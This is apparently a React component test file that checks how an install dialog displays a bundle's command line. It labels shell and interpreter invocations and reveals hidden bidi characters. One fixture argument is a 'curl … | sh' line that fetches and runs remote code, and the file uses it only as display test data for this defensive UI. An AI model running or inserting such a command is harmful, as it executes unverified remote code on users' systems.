import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { BundleCommandLine } from '../../../../../renderer/src/servers/bundles/BundleCommandLine';

afterEach(cleanup);

describe('the command line a bundle runs, in its install dialog', () => {
  it('shows a shell with its real arguments, marked', () => {
    render(
      <BundleCommandLine
        line={{
          command: '/bin/sh',
          args: ['-c', 'curl -s https://example.com/x | sh'],
          kind: 'shell',
        }}
      />,
    );
    const line = screen.getByLabelText('Command line');
    expect([...line.children].map((part) => part.textContent)).toEqual([
      '/bin/sh',
      '-c',
      'curl -s https://example.com/x | sh',
    ]);
    expect(screen.getByText('Shell: runs the command text it is given')).toBeTruthy();
  });

  it('marks an interpreter from outside the bundle, and not a program inside it', () => {
    const { rerender } = render(
      <BundleCommandLine line={{ command: 'python3', args: ['-c', 'x'], kind: 'interpreter' }} />,
    );
    expect(screen.getByText('Interpreter from outside the bundle')).toBeTruthy();
    rerender(
      <BundleCommandLine
        line={{ command: '‹bundle folder›/bin/server', args: [], kind: 'bundle' }}
      />,
    );
    expect(screen.queryByText(/Shell|Interpreter/)).toBeNull();
    expect(screen.getByLabelText('Command line').textContent).toBe('‹bundle folder›/bin/server');
  });

  it('shows hidden characters in an argument rather than hiding them', () => {
    render(<BundleCommandLine line={{ command: 'node', args: ['a\u202Eb'], kind: 'runtime' }} />);
    expect(screen.getByLabelText('Command line').textContent).not.toContain('\u202E');
  });
});
